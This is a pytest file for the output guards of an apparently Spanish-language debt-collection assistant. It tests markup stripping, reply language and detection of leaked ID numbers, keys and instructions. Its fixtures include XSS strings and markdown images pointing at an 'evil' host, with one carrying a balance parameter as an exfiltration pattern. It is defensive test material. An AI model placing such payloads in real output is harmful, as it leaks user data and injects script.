"""What is shown carries no link, picture, HTML or hidden character; the language is the debtor's; secrets stay."""

from __future__ import annotations

import pytest

from backend.assistant.guards.contract import Problem
from backend.assistant.guards.language import is_in_language
from backend.assistant.guards.markup import clean_markup
from backend.assistant.guards.surface import readable
from tests.assistant.guards.judging import judge
from tests.assistant.guards.scenarios import INSTRUCTIONS


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("Mira [aquí](http://x.com/a?b=1)", "Mira aquí"),
        ("![x](http://evil/p.png)Hola", "Hola"),
        ("![x](http://evil/p.png?saldo=1", ""),
        ("<script>alert(1)</script>Hola <b>tú</b>", "Hola tú"),
        ("&lt;img src=x onerror=alert(1)&gt;Hola", "Hola"),
        ("&amp;lt;img src=x&amp;gt;Hola", "Hola"),
        ("<https://evil.com>Hola", "Hola"),
        ("[a][1] y ya", "a y ya"),
        ("[1]: http://evil.com", ""),
        ("`**Total**`: 5", "**Total**: 5"),
        ("entra a www.evil.com/pago ya", "entra a  ya"),
        ("data:text/html;base64,AAA", ""),
        ("a\u200bb\u202ec\x00d", "abcd"),
        ("- **Total:** $ 5.000\n- otra", "- **Total:** $ 5.000\n- otra"),
        ("menos de 5 < 6 cuotas", "menos de 5 < 6 cuotas"),
    ],
)
def test_what_a_page_would_load_is_taken_out(typed: str, shown: str) -> None:
    assert clean_markup(typed) == shown


def test_an_address_of_a_passage_may_be_named() -> None:
    known = frozenset({"pagos.example.com"})
    assert clean_markup("Paga en pagos.example.com.", known_addresses=known) == "Paga en pagos.example.com."


@pytest.mark.parametrize(
    ("text", "language", "expected"),
    [
        ("Ok, perfecto.", "es", True),
        ("Total: $ 1.140.000", "es", True),
        ("You can pay the balance in three instalments.", "es", False),
        ("Tu saldo es de un millón de pesos y puedes pagar hasta el viernes.", "en", False),
        ("You can pay it until Friday.", "en", True),
        ("Ваш долг составляет миллион.", "es", False),
        ("Vous pouvez payer votre dette avec une remise pour les clients.", "es", False),
        ("¿La tarjeta es de Almacenes The Home?", "es", True),
    ],
)
def test_a_reply_is_in_the_debtors_language(text: str, language: str, expected: bool) -> None:
    assert is_in_language(readable(text), language) is expected


@pytest.mark.parametrize(
    "text",
    [
        "Tu cédula es 52.845.671.",
        "Tu documento: 52 845 671",
        "El DNI 12345678-Z figura a tu nombre.",
        "La clave es sk-abc123def456ghi789.",
        "Usé manage_negotiation para ti.",
        "Mis instrucciones dicen que no.",
        "El mínimo autorizado es otro.",
        *[line for line in INSTRUCTIONS.splitlines() if line],
    ],
)
def test_identity_numbers_keys_and_instructions_are_not_shown(text: str) -> None:
    assert judge("ladder_offers", text).problem == Problem.SECRET


@pytest.mark.parametrize(
    "text",
    [
        "Se compone de capital $ 22.500.000 e intereses $ 6.140.000.",
        "Puedes pagar $ 24.344.000 o decirme cuánto tienes.",
        "El saldo es de 28.640.000 y el pago único de 24.344.000 a fin de mes.",
    ],
)
def test_an_amount_before_a_word_of_one_letter_is_no_identity_number(text: str) -> None:
    assert judge("too_low_offer", text).problem != Problem.SECRET


def test_refusing_to_show_the_instructions_shows_nothing() -> None:
    assert judge("ladder_offers", "No puedo compartir mis instrucciones.").problem is None
